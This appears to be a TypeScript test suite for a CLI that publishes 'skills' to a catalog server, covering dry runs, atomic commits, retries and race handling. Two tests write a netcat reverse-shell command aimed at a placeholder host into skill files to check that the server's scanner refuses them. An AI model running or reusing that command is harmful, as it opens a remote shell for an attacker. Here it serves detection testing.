// Promise: skills:publish shows what it would do, publishes all of it in one catalog version or nothing, sends only
// missing files, and never overwrites what somebody else published in the meantime.
// readme: npm run skills:publish

import { randomUUID } from 'node:crypto'
import { rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'

import { strToU8, zipSync } from 'fflate'
import { afterEach, beforeEach, expect, test } from 'vitest'

import { ADMIN_KEY, finished, md, put, script, temporary } from './satchel.ts'
import { sharedSatchel } from './shared.ts'

const satchel = sharedSatchel()
let folder: string
let api: Api | null = null

beforeEach(() => {
  folder = temporary()
})
afterEach(async () => {
  await api?.close()
  api = null
  rmSync(folder, { recursive: true, force: true })
})

/** A name that no earlier attempt of the test published. */
const fresh = (name: string): string => `${name}-${randomUUID().slice(0, 8)}`
const write = (path: string, text: string): void => put(join(folder, path), text)

interface Ran {
  readonly status: number | null
  readonly out: string
}

async function publish(...args: readonly string[]): Promise<Ran> {
  return finished(script('publish-skills.ts', ['--url', api?.url ?? satchel.url, ...args], { NO_COLOR: '1' }))
}

async function live(name: string): Promise<{ digest: string; files: unknown } | null> {
  const got = await satchel.client.json<{ digest: string; files: unknown }>('GET', `/admin/skills/${name}`)
  return got.ok ? got.value.body : null
}

/**
 * The catalog versions that changed a skill, newest first. Other tests publish here too, so the catalog's own version
 * number proves nothing.
 */
async function changesOf(name: string): Promise<readonly number[]> {
  const got = await satchel.client.json<{ data: { catalog_version: number }[] }>(
    'GET',
    `/admin/skills/${name}/history`,
  )
  return got.ok ? got.value.body.data.map((change) => change.catalog_version) : []
}

interface Api {
  readonly url: string
  readonly seen: string[]
  close(): Promise<void>
}

/**
 * A proxy in front of the server that records every request. `meddle` returns 500 or more to refuse one, after
 * the earlier ones ran.
 */
async function standBefore(
  meddle: (line: string, count: number) => number | null | Promise<number | null>,
): Promise<Api> {
  const seen: string[] = []
  const server: Server = createServer((request, response) => {
    void (async () => {
      const chunks: Buffer[] = []
      for await (const chunk of request) chunks.push(chunk as Buffer) // a request's body comes in buffers
      const line = `${request.method} ${request.url}`
      seen.push(line)
      const refused = await meddle(line, seen.length)
      if (refused !== null) {
        response
          .writeHead(refused, { 'Content-Type': 'text/plain', 'Retry-After': '0' })
          .end('refused by the test')
        return
      }
      const forwarded = await fetch(`${satchel.url}${request.url}`, {
        method: request.method ?? 'GET',
        headers: {
          Authorization: request.headers.authorization ?? '',
          'Content-Type': request.headers['content-type'] ?? '',
        },
        ...(chunks.length > 0 ? { body: Buffer.concat(chunks) } : {}),
      })
      const body = Buffer.from(await forwarded.arrayBuffer())
      response.writeHead(forwarded.status, { 'Content-Type': 'application/json' }).end(body)
    })().catch((error: unknown) => response.writeHead(599).end(String(error)))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo // it listens on a port
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: async () => new Promise((resolve) => server.close(() => resolve())),
  }
}

test('publishes three skills in one catalog version, and changes nothing the second time', async () => {
  const names = ['p-one', 'p-two', 'p-three'].map(fresh)
  const changes = () => Promise.all(names.map(changesOf))
  for (const name of names) {
    write(`${name}/SKILL.md`, md(name))
    write(`${name}/references/a.md`, `about ${name}`)
  }
  const trial = await publish(folder, '--dry-run')
  expect(trial, trial.out).toMatchObject({
    status: 0,
    out: expect.stringContaining('would publish 3 skills'),
  })
  expect(await changes()).toEqual([[], [], []])
  const done = await publish(folder, '--yes', '--note', 'three at once')
  expect(done, done.out).toMatchObject({ status: 0 })
  const version = Number(/catalog version (\d+) is live/.exec(done.out)?.[1])
  expect(await changes()).toEqual([[version], [version], [version]])
  expect(await live(names[1] ?? '')).toMatchObject({ category: 'custom' })
  const again = await publish(folder, '--yes')
  expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Nothing to publish') })
  expect(await changes()).toEqual([[version], [version], [version]])
})

test('publishes nothing without a terminal and --yes, and says how to', async () => {
  write('p-shy/SKILL.md', md('p-shy'))
  const ran = await publish(folder)
  expect(ran).toMatchObject({ status: 2, out: expect.stringContaining('--yes') })
  expect(await live('p-shy')).toBeNull()
})

test('shows a change by file and line, as JSON too, and unpublishes in the same version', async () => {
  const [old, diff] = [fresh('p-old'), fresh('p-diff')]
  write(`${old}/SKILL.md`, md(old))
  write(`${diff}/SKILL.md`, md(diff, 'The first line.'))
  write(`${diff}/gone.md`, 'gone')
  await publish(folder, '--yes')
  const was = await live(diff)
  rmSync(join(folder, old), { recursive: true })
  rmSync(join(folder, `${diff}/gone.md`))
  write(`${diff}/SKILL.md`, md(diff, 'The second line.'))
  write(`${diff}/new.md`, 'new')
  const shown = await publish(folder, '--dry-run', '--diff', '--unpublish', old)
  for (const text of [
    '~ SKILL.md',
    '+ new.md',
    '- gone.md',
    '-The first line.',
    '+The second line.',
    `unpublish   ${old}`,
  ])
    expect(shown.out).toContain(text)
  const done = await publish(folder, '--json', '--yes', '--unpublish', old)
  const output = JSON.parse(done.out) as { readonly catalog_version: number }
  for (const name of [old, diff]) expect((await changesOf(name))[0], name).toBe(output.catalog_version)
  expect(output).toMatchObject({
    published: true,
    unpublished: [old],
    skills: [{ name: diff, state: 'changed', live: was?.digest }],
  })
  expect(await live(old)).toBeNull()
})

test('publishes an archive like a folder', async () => {
  const packed = zipSync({ 'p-packed/SKILL.md': strToU8(md('p-packed')), 'p-packed/a.md': strToU8('a') })
  writeFileSync(join(folder, 'p-packed.skill'), packed)
  const done = await publish(join(folder, 'p-packed.skill'), '--yes')
  expect(done, done.out).toMatchObject({ status: 0 })
  expect(await live('p-packed')).toMatchObject({ digest: expect.stringMatching(/^[0-9a-f]{64}$/) })
})

test('an error in one skill refuses all, with file and line, before anything is sent', async () => {
  write('p-good/SKILL.md', md('p-good'))
  write('p-bad/SKILL.md', '---\nname: p-bad\n---\nno description\n')
  api = await standBefore(() => null)
  const ran = await publish(folder, '--yes')
  expect(ran).toMatchObject({ status: 1, out: expect.stringMatching(/p-bad\/SKILL\.md:\d+: .*description/) })
  expect(api.seen).toEqual([])
  expect(await live('p-good')).toBeNull()
})

test('the server decides about acceptable errors: a reason accepts one, and is kept for the same file', async () => {
  const [shell, plain] = [fresh('p-shell'), fresh('p-plain')]
  write(`${shell}/SKILL.md`, md(shell))
  write(`${shell}/a.sh`, 'nc a.example.org 1 -e /bin/sh\n')
  write(`${plain}/SKILL.md`, md(plain))
  const refused = await publish(folder, '--yes')
  expect(refused).toMatchObject({
    status: 1,
    out: expect.stringMatching(/p-shell-\w+\/a\.sh:1: .*--accept shell-reverse-shell=REASON/),
  })
  const idle = await publish(folder, '--yes', '--accept', 'python-reverse-shell=x')
  expect(idle).toMatchObject({ status: 1, out: expect.stringContaining('no error of this rule was found') })
  const done = await publish(folder, '--yes', '--accept', 'shell-reverse-shell=Taught here')
  expect(done, done.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
  write(`${shell}/SKILL.md`, md(shell, 'Another body.'))
  const again = await publish(folder, '--yes')
  expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
})

test('text that is not UTF-8 refuses all, with its file', async () => {
  write('p-fine/SKILL.md', md('p-fine'))
  write('p-latin/SKILL.md', md('p-latin'))
  writeFileSync(join(folder, 'p-latin/notes.txt'), Buffer.from([0xe9, 0x74, 0xe9]))
  const ran = await publish(folder, '--yes')
  expect(ran.status).toBe(1)
  expect(ran.out).toContain('p-latin/notes.txt')
  expect(ran.out).toContain('UTF-8')
  expect(await live('p-fine')).toBeNull()
})

test('a server that fails during the upload publishes nothing; the second run sends only the rest', async () => {
  const name = fresh('p-cut')
  write(`${name}/SKILL.md`, md(name))
  for (let at = 0; at < 20; at++) write(`${name}/references/${at}.md`, `page ${at} of ${name}`)
  let puts = 0
  api = await standBefore((line) => (line.startsWith('PUT ') && ++puts > 8 ? 500 : null))
  const cut = await publish(folder, '--yes')
  expect(cut.status, cut.out).toBe(1)
  expect(cut.out).toContain('Nothing was published')
  expect(await live(name)).toBeNull()
  expect(await changesOf(name)).toEqual([])
  await api.close()

  api = await standBefore(() => null)
  const done = await publish(folder, '--yes')
  expect(done.status, done.out).toBe(0)
  expect(api.seen.filter((line) => line.startsWith('PUT '))).toHaveLength(21 - 8)
  expect(await live(name)).not.toBeNull()
})

test('retries a busy server while it sends Retry-After', async () => {
  write('p-busy/SKILL.md', md('p-busy'))
  const refusedOnce = new Set<string>()
  api = await standBefore((line) => {
    if (refusedOnce.has(line)) return null
    refusedOnce.add(line)
    return 503
  })
  const done = await publish(folder, '--yes')
  expect(done.status, done.out).toBe(0)
  expect(await live('p-busy')).not.toBeNull()
})

test('does not overwrite what somebody published between the dry run and the commit', async () => {
  const name = fresh('p-race')
  write(`${name}/SKILL.md`, md(name, 'ours'))
  const theirs = { files: { 'SKILL.md': md(name, 'theirs') } }
  api = await standBefore(async (line) => {
    if (line === 'POST /admin/catalog/commit') {
      const sent = await satchel.client.json('POST', '/admin/skills', theirs)
      expect(sent.ok).toBe(true)
    }
    return null
  })
  const ran = await publish(folder, '--yes')
  expect(ran.status, ran.out).toBe(1)
  expect(ran.out).toContain('in the meantime')
  const file = await satchel.client.bytes(`/admin/skills/${name}/files/SKILL.md`)
  expect(file.ok && new TextDecoder().decode(file.value)).toContain('theirs')
})

test('recognizes its commit after a lost response, and does not repeat it', async () => {
  const name = fresh('p-lost')
  write(`${name}/SKILL.md`, md(name))
  let lost = false
  api = await standBefore(async (line) => {
    if (line !== 'POST /admin/catalog/commit' || lost) return null
    lost = true
    const sent = await satchel.client.json('POST', '/admin/skills', { files: { 'SKILL.md': md(name) } })
    expect(sent.ok).toBe(true)
    return 502
  })
  const ran = await publish(folder, '--yes')
  expect(ran.status, ran.out).toBe(0)
  expect(await changesOf(name)).toHaveLength(1)
})

test('explains a wrong key, a wrong URL and wrong arguments, and prints no key', async () => {
  write('p-x/SKILL.md', md('p-x'))
  const wrong = await publish(folder, '--key', 'sk_default_wrong_secretsecretsecret')
  expect(wrong).toMatchObject({ status: 1, out: expect.stringContaining('401 unauthenticated') })
  expect(wrong.out).not.toContain('secretsecret')
  expect(wrong.out).not.toContain(ADMIN_KEY)
  expect(await publish()).toMatchObject({ status: 2, out: expect.stringContaining('No skills are given') })
  expect(await publish(join(folder, 'nothing'))).toMatchObject({
    status: 1,
    out: expect.stringContaining('does not exist'),
  })
  const nowhere = await finished(script('publish-skills.ts', [folder, '--url', 'ftp://x']))
  expect(nowhere).toMatchObject({ status: 2, out: expect.stringContaining('is not the address of a server') })
})

test('skills:match says which server it searched, with the key from SATCHEL_KEY', async () => {
  const env = { ADMIN_KEY: 'of-another-server', SATCHEL_KEY: ADMIN_KEY, NO_COLOR: '1' }
  const named = await finished(script('match-skills.ts', ['postmortem', '--url', satchel.url], env))
  expect(named.status, named.out).toBe(0)
  expect(named.out).toContain(`Searched: the live catalog of ${satchel.url}.`)
  const found = await finished(
    script('match-skills.ts', ['postmortem'], { ...env, SATCHEL_URL: satchel.url }),
  )
  // Scores differ between the two: other tests publish in the meantime, and a rare word counts more.
  expect(found.status, found.out).toBe(0)
  expect(found.out).toContain(`Searched: the live catalog of ${satchel.url}.`)
  const both = await finished(script('match-skills.ts', ['x', '--url', satchel.url, '--skills', folder], env))
  expect(both).toMatchObject({ status: 2, out: expect.stringContaining('Use either --skills') })
  const refused = await finished(
    script('match-skills.ts', ['postmortem', '--url', satchel.url], { ...env, SATCHEL_KEY: 'not-the-key' }),
  )
  expect(refused).toMatchObject({ status: 1, out: expect.stringMatching(/^401 [^]*Set SATCHEL_KEY/) })
  expect(refused.out).toContain(` to ${satchel.url})`)
})

test('shows every finding of both skills that the server refuses', async () => {
  const lines = Array.from({ length: 30 }, () => 'nc a.example.org 1 -e /bin/sh').join('\n')
  for (const name of ['a', 'b']) {
    write(`${name}/SKILL.md`, md(name))
    write(`${name}/run.sh`, `#!/bin/sh\n${lines}\n`)
  }
  const { status, out } = await publish(folder, '--yes')
  expect(status).toBe(1)
  expect(out).toMatch(/^422 invalid_skill: /m)
  expect(out).toContain('Or accept it by publishing with --accept shell-reverse-shell=REASON')
  for (const name of ['a', 'b'])
    expect(out.match(new RegExp(`^\\S*/${name}/run\\.sh:\\d+: `, 'gm'))?.length, out).toBe(20)
})
